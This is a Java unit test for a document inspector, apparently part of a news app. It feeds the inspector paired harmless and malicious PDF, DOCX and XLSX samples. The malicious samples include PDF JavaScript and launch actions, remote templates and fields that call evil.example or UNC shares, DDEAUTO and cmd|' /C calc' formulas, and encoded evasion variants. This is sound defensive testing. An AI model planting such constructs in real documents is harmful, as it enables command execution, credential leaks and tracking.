package vn.bantin.functions.images.document;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_16LE;
import static org.assertj.core.api.Assertions.assertThat;
import static vn.bantin.functions.images.document.DocumentForge.docx;
import static vn.bantin.functions.images.document.DocumentForge.objectStream;
import static vn.bantin.functions.images.document.DocumentForge.pdf;
import static vn.bantin.functions.images.document.DocumentForge.relation;
import static vn.bantin.functions.images.document.DocumentForge.xlsx;
import static vn.bantin.functions.images.document.DocumentForge.zip;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;
import vn.bantin.media.RejectionReason;

/** Documents that look alike, harmless and harmful: each is accepted, or rejected for the true reason. */
class DocumentTwinsTest {

    private static final String UNC = "\\\\server\\share\\";
    private static final String OLE = "\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1";

    /** @param reason null if the document is accepted */
    private record Twin(String name, @Nullable RejectionReason reason, Supplier<byte[]> file) {

        @Override
        public String toString() {
            return name;
        }
    }

    private static Twin harmless(String name, Supplier<byte[]> file) {
        return new Twin(name, null, file);
    }

    private static Twin harmful(String name, RejectionReason reason, Supplier<byte[]> file) {
        return new Twin(name, reason, file);
    }

    static List<Twin> twins() {
        var twins = new ArrayList<Twin>();
        pdfNames(twins);
        pdfPasswords(twins);
        relations(twins);
        fields(twins);
        hiddenFields(twins);
        workbooks(twins);
        parts(twins);
        containers(twins);
        return twins;
    }

    private static void pdfNames(List<Twin> twins) {
        twins.add(harmless(
                "PDF, link to an article on JavaScript", () -> pdf(link("https://vi.example/wiki/JavaScript"))));
        twins.add(harmful(
                "PDF, link and a script",
                RejectionReason.ACTIVE_PDF,
                () -> pdf(link("https://vi.example/wiki/JavaScript"), "6 0 obj\n<</S/JavaScript/JS(x)>>\nendobj")));
        twins.add(harmless("PDF, link to /Launch", () -> pdf(link("https://example.org/Launch"))));
        twins.add(
                harmful("PDF, launch action", RejectionReason.ACTIVE_PDF, () -> pdf("5 0 obj\n<</S/Launch>>\nendobj")));
        twins.add(harmless("PDF, font tag XFAAAB", () -> pdf("5 0 obj\n<</BaseFont/XFAAAB+Arial>>\nendobj")));
        twins.add(harmful(
                "PDF, XFA form", RejectionReason.ACTIVE_PDF, () -> pdf("5 0 obj\n<</XFA[(a) 6 0 R]>>\nendobj")));
        twins.add(harmless("PDF, name JavaScripts", () -> pdf("5 0 obj\n<</JavaScripts 1>>\nendobj")));
        twins.add(harmful(
                "PDF, tree of scripts",
                RejectionReason.ACTIVE_PDF,
                () -> pdf("5 0 obj\n<</JavaScript 6 0 R>>\nendobj")));
        twins.add(harmless("PDF, name RichMediaX", () -> pdf("5 0 obj\n<</RichMediaX 1>>\nendobj")));
        twins.add(harmful(
                "PDF, rich media", RejectionReason.ACTIVE_PDF, () -> pdf("5 0 obj\n<</Subtype/RichMedia>>\nendobj")));
        twins.add(harmful(
                "PDF, embedded files",
                RejectionReason.ACTIVE_PDF,
                () -> pdf("5 0 obj\n<</EmbeddedFiles 6 0 R>>\nendobj")));
        twins.add(harmless(
                "PDF, title in an escaped string", () -> pdf("5 0 obj\n<</Title(a \\( /JavaScript \\) b)>>\nendobj")));
        twins.add(harmful(
                "PDF, a script after an escaped bracket",
                RejectionReason.ACTIVE_PDF,
                () -> pdf("5 0 obj\n<</Title(a \\( b)/S/JavaScript>>\nendobj")));
        twins.add(harmful(
                "PDF, a script in an object within a string",
                RejectionReason.ACTIVE_PDF,
                () -> pdf("5 0 obj\n(\n6 0 obj\n<</S/JavaScript/JS(x)>>\nendobj\n)\nendobj")));
        twins.add(harmful(
                "PDF, a script after a string that never closes",
                RejectionReason.ACTIVE_PDF,
                () -> pdf("5 0 obj\n(\nendobj\n6 0 obj\n<</S/Launch>>\nendobj")));
        twins.add(harmless(
                "PDF, link in packed objects",
                () -> pdf(objectStream(
                        "/Filter/FlateDecode", "5 0 <</A<</S/URI/URI(https://vi.example/wiki/JavaScript)>>>>"))));
        twins.add(harmful(
                "PDF, script in packed objects",
                RejectionReason.ACTIVE_PDF,
                () -> pdf(objectStream("/Filter/FlateDecode", "5 0 <</A<</S/JavaScript/JS(https://vi.example)>>>>"))));
        twins.add(harmful(
                "PDF, script in packed objects spelt by number",
                RejectionReason.ACTIVE_PDF,
                () -> pdf(objectStream("/Filter/FlateDecode", "5 0 <</S/#4aava#53cript>>"))));
        twins.add(harmless(
                "PDF, page that writes about /Launch",
                () -> pdf("6 0 obj\n<</Length 9/Filter/FlateDecode>>\nstream\n"
                        + DocumentForge.deflated("BT (the key /Launch starts a program) Tj ET")
                        + "\nendstream\nendobj")));
        twins.add(harmful(
                "PDF, page that holds a launch action",
                RejectionReason.ACTIVE_PDF,
                () -> pdf("6 0 obj\n<</Length 9/Filter/FlateDecode>>\nstream\n"
                        + DocumentForge.deflated("BT (the key) Tj ET <</S/Launch>>") + "\nendstream\nendobj")));
        twins.add(harmless("PDF, link to /Encrypt", () -> pdf(link("https://example.org/Encrypt"))));
        twins.add(harmful(
                "PDF, encryption dictionary",
                RejectionReason.ENCRYPTED,
                () -> pdf("5 0 obj\n<</Encrypt 6 0 R>>\nendobj")));
        twins.add(harmless("PDF, name EncryptMetadata", () -> pdf("5 0 obj\n<</EncryptMetadata true>>\nendobj")));
    }

    private static void pdfPasswords(List<Twin> twins) {
        for (var bits : List.of(40, 128, 256)) {
            twins.add(harmless("PDF, owner password, " + bits + " bits", () -> encrypted("", bits, false)));
            twins.add(harmful(
                    "PDF, user password, " + bits + " bits",
                    RejectionReason.ENCRYPTED,
                    () -> encrypted("secret", bits, false)));
            twins.add(harmful(
                    "PDF, owner password and a script, " + bits + " bits",
                    RejectionReason.ACTIVE_PDF,
                    () -> encrypted("", bits, true)));
        }
    }

    private static void relations(List<Twin> twins) {
        for (var local : List.of(
                "file:///C:\\Users\\lan\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
                "file:///C:/Users/lan/Templates/a.dotx",
                "C:\\Templates\\a.dotx",
                "Normal.dotm",
                "file:///home/lan/a.dotx")) {
            twins.add(harmless("DOCX, template " + local, () -> docx(settings("attachedTemplate", local))));
        }
        for (var remote : List.of(
                "http://evil.example/t.dotm",
                "https://evil.example/t.dotx",
                "file://server/share/t.dotm",
                "file:///\\\\server\\share\\t.dotm",
                "file:\\\\server\\t.dotm",
                UNC + "t.dotm",
                "//server/share/t.dotm",
                "mhtml:http://evil.example/t",
                "ftp://evil.example/t.dotm",
                "  HTTP://evil.example/t.dotm")) {
            twins.add(harmful(
                    "DOCX, template " + remote,
                    RejectionReason.MACROS,
                    () -> docx(settings("attachedTemplate", remote))));
        }
        for (var local :
                List.of("file:///C:\\So%20lieu\\2025.xlsx", "2025.xlsx", "/Users/lan/2025.xlsx", "D:\\2025.xlsx")) {
            twins.add(harmless("XLSX, linked workbook " + local, () -> xlsx(workbookLink("externalLinkPath", local))));
        }
        for (var remote : List.of("https://evil.example/2025.xlsx", UNC + "2025.xlsx", "file:////server/2025.xlsx")) {
            twins.add(harmful(
                    "XLSX, linked workbook " + remote,
                    RejectionReason.EXTERNAL_CONTENT,
                    () -> xlsx(workbookLink("externalLinkPath", remote))));
        }
        twins.add(harmless("DOCX, hyperlink", () -> docx(document("hyperlink", "https://example.org", true))));
        twins.add(harmless("DOCX, embedded picture", () -> docx(document("image", "media/image1.png", false))));
        twins.add(harmful(
                "DOCX, picture on the web",
                RejectionReason.EXTERNAL_CONTENT,
                () -> docx(document("image", "https://tracker.example/p.png", true))));
        twins.add(harmless("DOCX, picture on a drive", () -> docx(document("image", "file:///D:/anh.png", true))));
        twins.add(harmful(
                "DOCX, picture on a server",
                RejectionReason.EXTERNAL_CONTENT,
                () -> docx(document("image", "file://server/anh.png", true))));
        for (var chunk : List.of("chunk.html", "chunk.rtf", "chunk.docx", "chunk.mht", "chunk.xml", "chunk.txt")) {
            twins.add(harmful(
                    "DOCX, foreign part " + chunk,
                    RejectionReason.FOREIGN_CONTENT,
                    () -> docx(document("aFChunk", chunk, false))));
        }
        twins.add(harmful(
                "DOCX, mail merge",
                RejectionReason.MAIL_MERGE,
                () -> docx(settings("mailMergeSource", "file:///C:\\danhsach.xlsx"))));
        twins.add(harmful(
                "DOCX, mail merge header",
                RejectionReason.MAIL_MERGE,
                () -> docx(settings("mailMergeHeaderSource", "file:///C:\\danhsach.xlsx"))));
        twins.add(harmful(
                "DOCX, linked OLE object",
                RejectionReason.MACROS,
                () -> docx(document("oleObject", "file:///C:\\a.xls", true))));
        twins.add(harmful(
                "DOCX, macros by relation",
                RejectionReason.MACROS,
                () -> docx(document("vbaProject", "data.dat", false))));
    }

    private static void fields(List<Twin> twins) {
        for (var local : List.of(
                " INCLUDEPICTURE \"C:\\\\Users\\\\lan\\\\anh.png\" \\* MERGEFORMAT ",
                " LINK Excel.Sheet.12 \"C:\\\\So lieu\\\\2025.xlsx\" \"Sheet1!R1C1\" \\a \\f 0 ",
                " INCLUDETEXT \"chuong1.docx\" ",
                " HYPERLINK \"https://example.org\" ",
                " PAGE ",
                " TOC \\o \"1-3\" \\h \\z \\u ",
                " SEQ Hinh \\* ARABIC ",
                " MERGEFIELD Ten ")) {
            twins.add(harmless("DOCX, field" + local, () -> docx(Map.of("word/header1.xml", field(local)))));
        }
        for (var remote : List.of(
                " INCLUDEPICTURE \"https://tracker.example/p.png\" \\d ",
                " INCLUDEPICTURE  \"\\\\\\\\server\\\\share\\\\p.png\" ",
                " INCLUDETEXT \"http://evil.example/t.docx\" ",
                " INCLUDETEXT \\\\\\\\server\\\\t.docx ",
                " LINK Word.Document.12 \"https://evil.example/t.docx\" ",
                " IMPORT \"https://evil.example/p.png\" ",
                " include \"https://evil.example/t.docx\" ",
                " INCLUDEPICTURE \"file://server/p.png\" ")) {
            twins.add(harmful(
                    "DOCX, field" + remote,
                    RejectionReason.EXTERNAL_CONTENT,
                    () -> docx(Map.of("word/header1.xml", field(remote)))));
        }
        twins.add(harmful(
                "DOCX, address in a nested field",
                RejectionReason.EXTERNAL_CONTENT,
                () -> docx(Map.of(
                        "word/header1.xml",
                        "<w>" + begin(" INCLUDEPICTURE ") + begin(" IF 1=1 \"https://evil.example/p.png\" ") + end()
                                + end() + "</w>"))));
        twins.add(harmless(
                "DOCX, link in the result of a local field",
                () -> docx(Map.of(
                        "word/header1.xml",
                        "<w>" + begin(" INCLUDETEXT \"a.docx\" ") + "<fldChar fldCharType=\"separate\"/>"
                                + begin(" HYPERLINK \"https://example.org\" ") + end() + end() + "</w>"))));
        twins.add(harmful(
                "DOCX, simple field of another computer",
                RejectionReason.EXTERNAL_CONTENT,
                () -> docx(Map.of(
                        "word/header1.xml", "<w><fldSimple instr=' INCLUDETEXT \"http://evil.example\" '/></w>"))));
        twins.add(harmful(
                "DOCX, DDE",
                RejectionReason.MACROS,
                () -> docx(Map.of("word/header1.xml", field(" DDEAUTO c:\\\\cmd ")))));
        twins.add(harmful(
                "XLSX, web query",
                RejectionReason.EXTERNAL_CONTENT,
                () -> xlsx(Map.of(
                        "xl/connections.xml",
                        "<connections><connection><webPr url=\"http://evil.example\"/></connection></connections>"))));
        twins.add(harmless(
                "XLSX, query of itself",
                () -> xlsx(Map.of(
                        "xl/connections.xml",
                        "<connections><connection><dbPr connection=\"Provider=x\"/></connection></connections>"))));
    }

    private static final String WORD_NAMESPACES =
            "<w:hdr xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\""
                    + " xmlns:mc=\"http://schemas.openxmlformats.org/markup-compatibility/2006\""
                    + " xmlns:x=\"urn:unknown\" mc:Ignorable=\"x\">";

    /** Instructions that only some readers see as they are. */
    private static void hiddenFields(List<Twin> twins) {
        var begin = "<w:fldChar w:fldCharType=\"begin\"/>";
        var end = "<w:fldChar w:fldCharType=\"end\"/>";
        for (var noise : List.of(
                "<w:delInstrText>X</w:delInstrText>",
                "<w:del><w:r><w:instrText>X</w:instrText></w:r></w:del>",
                "<x:instrText>X</x:instrText>",
                "<x:fldChar x:fldCharType=\"separate\"/>",
                "<w:fldChar x:fldCharType=\"separate\"/>",
                "<mc:AlternateContent><mc:Choice Requires=\"x\"><w:r><w:instrText>X</w:instrText></w:r></mc:Choice>"
                        + "</mc:AlternateContent>",
                "<mc:AlternateContent><mc:Choice Requires=\"x\"/><mc:Fallback><w:r><w:instrText>X</w:instrText></w:r></mc:Fallback>"
                        + "</mc:AlternateContent>",
                "<mc:AlternateContent><mc:Choice Requires=\"x\"><w:fldChar w:fldCharType=\"separate\"/></mc:Choice>"
                        + "</mc:AlternateContent>")) {
            for (var harmful : List.of("DDE", "INCLUDETEXT")) {
                var first = harmful.substring(0, 2);
                var second = harmful.substring(2) + " \"http://evil.example\"";
                twins.add(harmful(
                        "DOCX, " + harmful + " around " + noise,
                        harmful.equals("DDE") ? RejectionReason.MACROS : RejectionReason.EXTERNAL_CONTENT,
                        () -> docx(Map.of(
                                "word/header1.xml",
                                WORD_NAMESPACES + begin + "<w:instrText>" + first + "</w:instrText>" + noise
                                        + "<w:instrText>" + second + "</w:instrText>" + end + "</w:hdr>"))));
            }
            twins.add(harmless(
                    "DOCX, page number around " + noise,
                    () -> docx(Map.of(
                            "word/header1.xml",
                            WORD_NAMESPACES + begin + "<w:instrText>PA</w:instrText>" + noise
                                    + "<w:instrText>GE</w:instrText>" + end + "</w:hdr>"))));
        }
        twins.add(harmful(
                "DOCX, instruction as ordinary text",
                RejectionReason.MACROS,
                () -> docx(Map.of(
                        "word/header1.xml", WORD_NAMESPACES + begin + "<w:t>DDEAUTO c:</w:t>" + end + "</w:hdr>"))));
        twins.add(harmless(
                "DOCX, text about DDEAUTO",
                () -> docx(Map.of("word/header1.xml", WORD_NAMESPACES + "<w:t>DDEAUTO c:</w:t></w:hdr>"))));
        twins.add(harmless(
                "DOCX, DDE in the result of a field",
                () -> docx(Map.of(
                        "word/header1.xml",
                        WORD_NAMESPACES + begin
                                + "<w:instrText>REF a</w:instrText><w:fldChar w:fldCharType=\"separate\"/>"
                                + "<w:t>DDEAUTO</w:t>" + end + "</w:hdr>"))));
        twins.add(harmful(
                "DOCX, picture whose address a property holds",
                RejectionReason.EXTERNAL_CONTENT,
                () -> docx(Map.of(
                        "word/header1.xml",
                        "<w>" + begin(" INCLUDEPICTURE ") + begin(" DOCPROPERTY Anh ") + end() + end() + "</w>"))));
        twins.add(harmless(
                "DOCX, local pictures as Word nests them",
                () -> docx(Map.of(
                        "word/header1.xml",
                        "<w>" + begin(" INCLUDEPICTURE \"C:\\\\a.png\" ") + begin(" INCLUDEPICTURE \"C:\\\\a.png\" ")
                                + end() + end() + "</w>"))));
        for (var remote : List.of(
                "%68ttp://evil.example/a.png",
                "http%3A//evil.example/a.png",
                "%5C%5Cserver%5Cshare%5Ca.png",
                "%2F%2Fserver/share/a.png",
                "%255C%255Cserver%255Ca.png",
                "file:/\\\\server\\a.png",
                "FILE:%2f%2fserver/a.png",
                "\\/server/share/a.png",
                "hTTps:\\\\evil.example\\a.png")) {
            twins.add(harmful(
                    "DOCX, picture at " + remote,
                    RejectionReason.EXTERNAL_CONTENT,
                    () -> docx(document("image", remote, true))));
        }
        twins.add(
                harmful(
                        "DOCX, VML picture of another computer",
                        RejectionReason.EXTERNAL_CONTENT,
                        () -> docx(
                                Map.of(
                                        "word/header1.xml",
                                        "<v:shape xmlns:v=\"urn:schemas-microsoft-com:vml\"><v:imagedata src=\"http://evil.example/a.png\"/></v:shape>"))));
    }

    private static void workbooks(List<Twin> twins) {
        for (var formula : List.of("cmd|' /C calc'!A0", "+MSEXCEL|'x'!''", "=DDE|a!b")) {
            twins.add(harmful(
                    "XLSX, formula " + formula,
                    RejectionReason.MACROS,
                    () -> xlsx(Map.of(
                            "xl/worksheets/sheet1.xml", "<worksheet><c><f>" + formula + "</f></c></worksheet>"))));
        }
        for (var formula : List.of("_xlfn.WEBSERVICE(A1)", "_xlfn.IMAGE(&quot;https://evil.example/a.png&quot;)")) {
            twins.add(harmful(
                    "XLSX, formula " + formula,
                    RejectionReason.EXTERNAL_CONTENT,
                    () -> xlsx(Map.of(
                            "xl/worksheets/sheet1.xml", "<worksheet><c><f>" + formula + "</f></c></worksheet>"))));
        }
        for (var formula : List.of(
                "SUM(A1:A9)",
                "IF(A1=&quot;a|b&quot;,1,0)",
                "&quot;cmd|&quot;&amp;A1",
                "HYPERLINK(&quot;https://example.org&quot;)",
                "IMAGINARY(A1)")) {
            twins.add(harmless(
                    "XLSX, formula " + formula,
                    () -> xlsx(Map.of(
                            "xl/worksheets/sheet1.xml", "<worksheet><c><f>" + formula + "</f></c></worksheet>"))));
        }
        for (var source : List.of(
                "<textPr sourceFile=\"\\\\server\\a.csv\"/>",
                "<textPr sourceFile=\"https://evil.example/a.csv\"/>",
                "<dbPr connection=\"Provider=x;Data Source=\\\\server\\a.mdb\"/>",
                "<dbPr connection=\"Provider=x;Data Source=https://evil.example/a\"/>")) {
            twins.add(harmful(
                    "XLSX, source " + source,
                    RejectionReason.EXTERNAL_CONTENT,
                    () -> xlsx(Map.of(
                            "xl/connections.xml",
                            "<connections><connection>" + source + "</connection></connections>"))));
        }
        for (var source : List.of(
                "<textPr sourceFile=\"C:\\So lieu\\a.csv\"/>",
                "<dbPr connection=\"Provider=Microsoft.Mashup.OleDb.1;Data Source=$Workbook$;Location=Bang1\"/>",
                "<dbPr connection=\"Provider=x;Data Source=C:\\So lieu\\a.mdb\"/>")) {
            twins.add(harmless(
                    "XLSX, source " + source,
                    () -> xlsx(Map.of(
                            "xl/connections.xml",
                            "<connections><connection>" + source + "</connection></connections>"))));
        }
    }

    private static void parts(List<Twin> twins) {
        twins.add(harmless(
                "XLSX, custom property", () -> typed("xl/customProperty1.bin", spreadsheet("customProperty"), "x")));
        twins.add(harmful(
                "XLSX, OLE file as custom property",
                RejectionReason.MACROS,
                () -> typed("xl/customProperty1.bin", spreadsheet("customProperty"), OLE)));
        twins.add(harmless(
                "XLSX, printer settings by type", () -> typed("xl/data1.bin", spreadsheet("printerSettings"), "x")));
        twins.add(harmful(
                "XLSX, macros by type",
                RejectionReason.MACROS,
                () -> typed("xl/data1.bin", "application/vnd.ms-office.vbaProject", "x")));
        twins.add(
                harmful("XLSX, unknown binary part", RejectionReason.MACROS, () -> xlsx(Map.of("xl/data1.bin", "x"))));
        twins.add(harmful(
                "DOCX, ActiveX by type",
                RejectionReason.MACROS,
                () -> typed("word/c1.xml", "application/vnd.ms-office.activeX+xml", "<x/>")));
        var vml =
                "<xml xmlns:v=\"urn:v\"><v:shape id=_x0000_s1 style='x'><v:textbox><div>Ghi chu<br>dong hai&nbsp;</div>"
                        + "</v:textbox></v:shape></xml>";
        twins.add(harmless(
                "XLSX, comment as Excel draws it",
                () -> typed(
                        "xl/drawings/vmlDrawing1.vml",
                        "application/vnd.openxmlformats-officedocument.vmlDrawing",
                        vml)));
        twins.add(harmful(
                "XLSX, DDE in a drawing",
                RejectionReason.MACROS,
                () -> typed(
                        "xl/drawings/vmlDrawing1.vml",
                        "application/vnd.openxmlformats-officedocument.vmlDrawing",
                        "<xml><br><ddeLink/></xml>")));
        twins.add(harmless("XLSX, form control", () -> xlsx(Map.of("xl/ctrlProps/ctrlProp1.xml", "<formControlPr/>"))));
    }

    private static void containers(List<Twin> twins) {
        twins.add(harmless("DOCX, names with backslashes", () -> docx(Map.of("word\\styles.xml", "<x/>"))));
        twins.add(harmful(
                "DOCX, a name twice, once with a backslash",
                RejectionReason.DAMAGED_DOCUMENT,
                () -> docx(Map.of("word\\document.xml", "<x/>"))));
        twins.add(harmful(
                "DOCX, macros behind a backslash",
                RejectionReason.MACROS,
                () -> docx(Map.of("word\\vbaProject.bin", "x"))));
        twins.add(harmless("DOCX, line break at the end", () -> join(docx(Map.of()), "\n")));
        twins.add(harmless("XLSX, Windows line break at the end", () -> join(xlsx(Map.of()), "\r\n")));
        twins.add(harmful(
                "DOCX, text at the end", RejectionReason.DAMAGED_DOCUMENT, () -> join(docx(Map.of()), "\n<?php")));
        twins.add(harmful(
                "encrypted DOCX",
                RejectionReason.ENCRYPTED,
                () -> bytes(OLE + "\0".repeat(504) + new String("EncryptedPackage".getBytes(UTF_16LE), ISO_8859_1))));
        twins.add(harmful(
                "old XLS",
                RejectionReason.OLD_OFFICE,
                () -> bytes(OLE + "\0".repeat(504) + new String("Workbook".getBytes(UTF_16LE), ISO_8859_1))));
        twins.add(harmful("ODT", RejectionReason.OPEN_DOCUMENT, () -> openDocument("<manifest/>")));
        twins.add(harmful(
                "encrypted ODT",
                RejectionReason.ENCRYPTED,
                () -> openDocument("<manifest><encryption-data/></manifest>")));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("twins")
    void is_judged_by_what_it_does(Twin twin) {
        var inspection = DocumentInspector.inspect(twin.file().get());
        if (twin.reason() == null) {
            assertThat(inspection).isInstanceOf(Inspection.Accepted.class);
        } else {
            assertThat(inspection).isEqualTo(new Inspection.Refused(twin.reason()));
        }
    }

    @Test
    void the_set_covers_at_least_eighty_files() {
        assertThat(twins()).hasSizeGreaterThanOrEqualTo(80);
        assertThat(twins().stream().map(Twin::name)).doesNotHaveDuplicates();
    }

    private static String link(String address) {
        return "5 0 obj\n<</Subtype/Link/A<</S/URI/URI(" + address + ")>>>>\nendobj";
    }

    private static byte[] encrypted(String userPassword, int bits, boolean script) {
        try (var document = new PDDocument()) {
            var page = new PDPage();
            document.addPage(page);
            try (var content = new PDPageContentStream(document, page)) {
                content.beginText();
                content.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                content.showText("Ban tin");
                content.endText();
            }
            if (script) {
                document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert(1)"));
            }
            var policy = new StandardProtectionPolicy("owner", userPassword, new AccessPermission());
            policy.setEncryptionKeyLength(bits);
            document.protect(policy);
            var out = new ByteArrayOutputStream();
            document.save(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static Map<String, String> settings(String type, String target) {
        return Map.of("word/_rels/settings.xml.rels", relation(type, target, true));
    }

    private static Map<String, String> document(String type, String target, boolean external) {
        return Map.of("word/_rels/document.xml.rels", relation(type, target, external));
    }

    private static Map<String, String> workbookLink(String type, String target) {
        return Map.of("xl/externalLinks/_rels/externalLink1.xml.rels", relation(type, target, true));
    }

    private static String field(String instruction) {
        return "<w>" + begin(instruction) + end() + "</w>";
    }

    private static String begin(String instruction) {
        return "<fldChar fldCharType=\"begin\"/><instrText>" + instruction.replace("\"", "&quot;") + "</instrText>";
    }

    private static String end() {
        return "<fldChar fldCharType=\"end\"/>";
    }

    private static String spreadsheet(String kind) {
        return "application/vnd.openxmlformats-officedocument.spreadsheetml." + kind;
    }

    /** A workbook with one more part and its content type. */
    private static byte[] typed(String part, String type, String content) {
        var parts = new LinkedHashMap<String, String>();
        parts.put(
                "[Content_Types].xml",
                "<Types><Override PartName=\"/xl/workbook.xml\" ContentType=\"" + spreadsheet("sheet.main+xml")
                        + "\"/><Override PartName=\"/" + part + "\" ContentType=\"" + type + "\"/></Types>");
        parts.put("xl/workbook.xml", "<workbook/>");
        parts.put(part, content);
        return zip(parts);
    }

    private static byte[] openDocument(String manifest) {
        var parts = new LinkedHashMap<String, String>();
        parts.put("mimetype", "application/vnd.oasis.opendocument.text");
        parts.put("content.xml", "<x/>");
        parts.put("META-INF/manifest.xml", manifest);
        return zip(parts);
    }

    private static byte[] bytes(String latin1) {
        return latin1.getBytes(ISO_8859_1);
    }

    private static byte[] join(byte[] file, String tail) {
        var out = Arrays.copyOf(file, file.length + tail.length());
        System.arraycopy(bytes(tail), 0, out, file.length, tail.length());
        return out;
    }
}
